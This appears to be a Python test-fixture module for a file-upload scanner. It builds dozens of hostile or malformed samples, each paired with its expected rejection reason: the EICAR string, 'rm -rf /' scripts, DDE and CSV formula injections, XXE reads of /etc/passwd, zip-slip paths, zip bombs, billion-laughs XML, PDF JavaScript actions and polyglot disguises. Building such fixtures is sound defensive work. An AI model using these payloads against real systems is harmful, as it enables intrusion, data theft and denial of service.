"""Files that do harm, or would if they were taken: each made anew, with the reason why it is refused."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from lianheng.files.terms import FileReason
from tests.factories.documents import EXCEL, OFD, RELS, SLIDES, TYPES, WORD, packed, pdf, picture

MEGABYTE = 1024 * 1024
VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
ACTIVE, BROKEN, BOMB = FileReason.ACTIVE, FileReason.BROKEN, FileReason.BOMB
DISGUISED, NOT_ALLOWED, LOCKED = FileReason.DISGUISED, FileReason.NOT_ALLOWED, FileReason.LOCKED
HARMFUL, FORMULA = FileReason.HARMFUL, FileReason.FORMULA
Attack = tuple[str, bytes, FileReason]


def attacks() -> Iterator[Attack]:
    """All of them."""
    for kind in (_programs, _texts, _documents, _links, _archives, _bombs, _pages, _pictures, _disguises):
        yield from kind()


def _programs() -> Iterator[Attack]:
    yield "program", b"MZ\x90\0program", NOT_ALLOWED
    yield "program without zeros", b"MZ this program cannot be run", NOT_ALLOWED
    yield "elf", b"\x7fELF\2\1\1\0", NOT_ALLOWED
    yield "shell", b"#!/bin/sh\nrm -rf /\n", NOT_ALLOWED
    yield "batch", b"@echo off\r\ndel *.*", NOT_ALLOWED
    yield "postscript", b"%!PS-Adobe-3.0\n", NOT_ALLOWED
    yield "rtf", b"{\\rtf1{\\object\\objocx}}", NOT_ALLOWED
    yield "page", b"<!DOCTYPE html><script>alert(1)</script>", NOT_ALLOWED
    yield "drawing", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", NOT_ALLOWED
    yield (
        "entity",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        NOT_ALLOWED,
    )
    yield "shortcut", b"[InternetShortcut]\r\nURL=file://elsewhere/a.exe", NOT_ALLOWED
    yield "archived page", b"MIME-Version: 1.0\r\nContent-Type: multipart/related", NOT_ALLOWED
    yield "gif", b"GIF89a\1\0\1\0\0\0\0;", NOT_ALLOWED
    yield "rar", b"Rar!\x1a\7\1\0", NOT_ALLOWED
    yield "gzip", zlib.compress(b"a") + b"\0", NOT_ALLOWED
    yield "old office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, FileReason.OLD_OFFICE
    locked = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
    yield "locked office", locked, LOCKED
    yield "nothing", b"", FileReason.EMPTY
    yield "blank", b" \r\n\t\0\0", FileReason.EMPTY


def _texts() -> Iterator[Attack]:
    yield "virus", VIRUS, HARMFUL
    yield "virus below", b"report\n" * 300_000 + VIRUS, HARMFUL
    yield "command", b"name,=cmd|'/c calc'!A0", FORMULA
    yield "command with plus", b"+cmd|'/c calc'!A0,b", FORMULA
    yield "command with minus", b"a\tb\n-cmd|' /C calc'!A0", FORMULA
    yield "call home", b'a,"=HYPERLINK(""http://elsewhere.example""&A1,""x"")"', FORMULA
    yield "call home with at", b'a;@WEBSERVICE("http://elsewhere.example")', FORMULA
    yield "call home by plus", b'\xef\xbb\xbf+HYPERLINK("http://elsewhere.example")', FORMULA
    yield "dde", b'=DDE("cmd";"/C calc";"x")', FORMULA
    yield "zeros in text", b"plain\0" + b"text" * 10, NOT_ALLOWED
    yield "no letters", b"\xff\xfe\xfd\x81", NOT_ALLOWED


def _documents() -> Iterator[Attack]:
    for part in ("word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/evil.EXE"):
        yield part, packed({WORD: "<a/>", part: b"x"}), ACTIVE
    for part in ("xl/macrosheets/sheet1.xml", "xl/dialogsheets/sheet1.xml", "xl/embeddings/oleObject1.bin"):
        yield part, packed({EXCEL: "<a/>", part: b"x"}), ACTIVE
    macros = TYPES.replace("application/xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    yield "macro types", packed({EXCEL: "<a/>", "[Content_Types].xml": macros}), ACTIVE
    yield "program inside", packed({WORD: "<a/>", "word/media/image1.png": b"MZ\x90\0"}), ACTIVE
    yield "old office inside", packed({WORD: "<a/>", "word/media/image1.wmf": b"\xd0\xcf\x11\xe0"}), ACTIVE
    yield "archive inside", packed({WORD: "<a/>", "word/media/image1.jpeg": packed({"a": "b"})}), ACTIVE
    yield "macro in a figure", packed({SLIDES: "<a/>", "ppt/embeddings/a.xlsx": _with_macro()}), ACTIVE
    yield "virus inside", packed({WORD: "<a/>", "word/media/a.txt": b"x" * 300_000 + VIRUS}), HARMFUL
    outside = '<a xmlns="b">{}</a>'
    entity = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    for part in (WORD, EXCEL, "xl/worksheets/sheet1.xml", "docProps/core.xml", OFD):
        yield f"entity in {part}", packed({EXCEL: "<a/>", part: entity}), ACTIVE
    yield "entity in wide letters", packed({WORD: entity.encode("utf-16")}), ACTIVE
    yield "entity late", packed({WORD: " " * 400_000 + entity}), ACTIVE
    yield "script in a drawing", packed({WORD: "<a/>", "word/media/a.svg": "<svg><script/></svg>"}), ACTIVE
    yield "ole", packed({WORD: outside.format('<o:OLEObject Type="Link"/>')}), ACTIVE
    yield "ole in slides", packed({SLIDES: outside.format("<p:oleObj/>")}), ACTIVE
    yield "dde link", packed({EXCEL: "<a/>", "xl/externalLinks/a.xml": "<a><ddeLink b='c'/></a>"}), ACTIVE
    field = "<w:instrText>{}</w:instrText>"
    yield "dde field", packed({WORD: outside.format(field.format("DDEAUTO c:\\\\cmd.exe"))}), ACTIVE
    yield "dde in pieces", packed({WORD: field.format("D") + field.format("DE cmd")}), ACTIVE
    yield "dde as number", packed({WORD: field.format("&#68;DE cmd")}), ACTIVE
    yield "dde in one", packed({WORD: '<w:fldSimple w:instr=" DDE cmd"/>'}), ACTIVE
    yield "fetched picture", packed({WORD: field.format("INCLUDEPICTURE http://elsewhere.example")}), ACTIVE
    yield "command cell", packed({EXCEL: "<a/>", "xl/worksheets/a.xml": "<f>cmd|'/c calc'!A0</f>"}), ACTIVE


def _with_macro() -> bytes:
    return packed({EXCEL: "<a/>", "xl/vbaProject.bin": b"x"})


def _links() -> Iterator[Attack]:
    link = '<Relationship Id="a" Type="http://b/{}" Target="{}" {}/>'
    for kind in ("attachedTemplate", "oleObject", "image", "externalLinkPath", "frame", "subDocument"):
        rels = RELS.format(link.format(kind, "http://elsewhere.example/", 'TargetMode="External"'))
        yield f"fetched {kind}", packed({WORD: "<a/>", "word/_rels/document.xml.rels": rels}), ACTIVE
    hidden = RELS.format(link.format("image", "http://c/", 'TargetMode="&#69;xternal"'))
    yield "fetched in disguise", packed({WORD: "<a/>", "word/_rels/a.rels": hidden}), ACTIVE
    for target in ("javascript:alert(1)", "ms-msdt:/id", " vbscript:a"):
        rels = RELS.format(link.format("hyperlink", target, 'TargetMode="External"'))
        yield f"link {target}", packed({WORD: "<a/>", "word/_rels/a.rels": rels}), ACTIVE
    yield "torn links", packed({WORD: "<a/>", "word/_rels/a.rels": "<Relationships><"}), BROKEN


def _archives() -> Iterator[Attack]:
    yield "plain archive", packed({"anything.txt": "x"}), NOT_ALLOWED
    yield "torn", b"PK\x03\x04 torn", BROKEN
    yield "cut", packed({WORD: "<a/>"})[:-30], BROKEN
    yield "climbing", packed({WORD: "<a/>", "../../etc/cron.d/a": "x"}), BROKEN
    yield "absolute", packed({WORD: "<a/>", "/etc/passwd": "x"}), BROKEN
    yield "drive", packed({WORD: "<a/>", "C:/a": "x"}), BROKEN
    yield "backslash", packed({WORD: "<a/>", "..\\a": "x"}), BROKEN
    yield "twice in two cases", packed({WORD: "<a/>", WORD.upper(): "<b/>"}), BROKEN
    yield "link", _archive({WORD: ("<a/>", 0), "word/a": ("/etc/passwd", 0o120777)}), BROKEN
    yield "odd packing", _archive({WORD: ("<a/>", 0)}, ZIP_BZIP2), BROKEN
    yield "something before", b"#!/bin/sh\n" + packed({WORD: "<a/>"}), DISGUISED
    yield "something behind", packed({WORD: "<a/>"}) + b"<script>", DISGUISED
    yield "something in the comment", _commented(packed({WORD: "<a/>"}), b"<script>"), DISGUISED
    locked = bytearray(packed({WORD: "<a/>"}))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := locked.find(sign, start + 1)) >= 0:
            locked[start + at] |= 1
    yield "locked archive", bytes(locked), LOCKED
    flipped = bytearray(_archive({WORD: ("<a>" + "b" * 400 + "</a>", 0)}, ZIP_STORED))
    flipped[flipped.find(b"bbbb")] = 99
    yield "flipped", bytes(flipped), BROKEN


def _archive(parts: dict[str, tuple[str, int]], packing: int = ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", packing) as archive:
        for name, (content, mode) in parts.items():
            info = ZipInfo(name)
            info.compress_type, info.external_attr = packing, mode << 16
            archive.writestr(info, content)
    return out.getvalue()


def _commented(content: bytes, said: bytes) -> bytes:
    return content[:-2] + struct.pack("<H", len(said)) + said


def _bombs() -> Iterator[Attack]:
    huge = _huge(300)
    yield "300 MB in 300 kB", huge, BOMB
    lying = huge.replace(struct.pack("<I", 300 * MEGABYTE), struct.pack("<I", 1000))
    yield "300 MB that say 1 kB", lying, BROKEN
    yield "20000 parts", packed({WORD: "<a/>", **{f"word/{n}": "" for n in range(6000)}}), BOMB
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    yield (
        "a thousand million laughs",
        packed({WORD: f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]><a>&a8;</a>'}),
        ACTIVE,
    )
    inner = packed({EXCEL: b"<a>" + b" " * 150 * MEGABYTE})
    nested = packed({SLIDES: "<a/>", **{f"ppt/embeddings/{n}.xlsx": inner for n in range(2)}})
    yield "bombs in figures", nested, BOMB
    yield "links without end", packed({WORD: "<a/>", "word/_rels/a.rels": b" " * 3 * MEGABYTE}), BOMB


def _huge(megabytes: int) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        archive.writestr(WORD, "<a/>")
        with archive.open(ZipInfo("word/a.xml"), "w", force_zip64=False) as part:
            part._compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # type: ignore[attr-defined]
            part._zinfo.compress_type = ZIP_DEFLATED  # type: ignore[attr-defined]
            for _ in range(megabytes):
                part.write(bytes(MEGABYTE))
    return out.getvalue()


def _made(change: Callable[[pikepdf.Pdf], None], **more: object) -> bytes:
    made, out = pikepdf.open(io.BytesIO(pdf("page"))), io.BytesIO()
    change(made)
    made.save(out, **more)
    return out.getvalue()


def _doing(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action

    return change


def _showing(subtype: Name) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[0, 0, 9, 9])])

    return change


def _pages() -> Iterator[Attack]:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    yield "script", _made(_doing(script)), ACTIVE
    streams = pikepdf.ObjectStreamMode.generate
    yield "script packed away", _made(_doing(script), object_stream_mode=streams), ACTIVE
    yield "script by another name", _made(_doing(script)).replace(b"/JavaScript", b"/J#61vaScript"), ACTIVE
    for what in (Name.Launch, Name.SubmitForm, Name.ImportData, Name.GoToE, Name.GoToR, Name.Rendition):
        yield f"action {what}", _made(_doing(Dictionary(S=what, F=String("a")))), ACTIVE
    for what in (Name.FileAttachment, Name.RichMedia, Name.Screen, Name("/3D"), Name.Movie):
        yield f"annotation {what}", _made(_showing(what)), ACTIVE
    yield "next action", _made(_doing(Dictionary(S=Name.URI, URI=String("a"), Next=Array([script])))), ACTIVE
    form = Dictionary(Fields=[], XFA=String("<x/>"))
    yield "form with a life of its own", _made(lambda made: setattr(made.Root, "AcroForm", form)), ACTIVE

    def carry(made: pikepdf.Pdf) -> None:
        made.attachments["a.exe"] = b"MZ"

    yield "file inside", _made(carry), ACTIVE
    yield "locked pages", _made(lambda made: None, encryption=pikepdf.Encryption(owner="a", user="b")), LOCKED
    yield "half locked", _made(lambda made: None, encryption=pikepdf.Encryption(owner="a", user="")), LOCKED
    yield "cut pages", pdf("page")[:200], BROKEN
    yield "no pages", b"%PDF-1.7\n1 0 obj\n%%EOF", BROKEN
    deep = b"[" * 5000 + b"]" * 5000
    yield "deep pages", pdf("page").replace(b"/Resources << >>", b"/Resources " + deep), BROKEN


def _pictures() -> Iterator[Attack]:
    points = FileReason.TOO_MANY_POINTS
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    yield "900 million points", out.getvalue(), points
    out = io.BytesIO()
    Image.new("L", (7000, 6000)).save(out, "JPEG")
    yield "42 million points", out.getvalue(), points
    claims = bytearray(picture("PNG"))
    claims[16:24] = struct.pack(">II", 2_000_000, 2_000_000)
    claims[29:33] = struct.pack(">I", zlib.crc32(claims[12:29]))
    yield "claims without points", bytes(claims), points
    yield "cut picture", picture("PNG", (300, 300))[:200], BROKEN
    yield "cut photo", picture("JPEG", (300, 300))[:400], BROKEN
    yield "only a head", b"\x89PNG\r\n\x1a\n" + b"\0" * 30, BROKEN
    note = struct.pack(">I", 9 * MEGABYTE) + b"zTXt" + b"a\0\0" + zlib.compress(bytes(9 * MEGABYTE))
    yield "swollen note", picture("PNG")[:33] + note + picture("PNG")[33:], BROKEN


def _disguises() -> Iterator[Attack]:
    archive = packed({WORD: "<a/>"})
    yield "photo and archive", picture("JPEG") + archive, DISGUISED
    yield "picture and archive", picture("PNG") + archive, DISGUISED
    yield "pages and archive", pdf("page") + archive, DISGUISED
    yield "photo and page", picture("JPEG", comment=b"<script>alert(1)</script>"), DISGUISED
    yield "picture and page", picture("PNG") + b"<script>alert(1)</script>", DISGUISED
    yield "pages behind a page", b"<html>" + pdf("page"), DISGUISED
    yield "pages and page", pdf("page").replace(b"page", b"<script>"), DISGUISED
    yield "photo and pages", picture("JPEG", comment=b"%PDF-1.7"), DISGUISED
    yield "archive and pages", packed({"%PDF-1.7": "", WORD: "<a/>"}), DISGUISED
    yield "pages and program", pdf("page") + b"MZ\x90\0", BROKEN
    yield "virus in pages", pdf(VIRUS.decode()), HARMFUL
    yield "virus in a photo", picture("JPEG", comment=VIRUS), HARMFUL
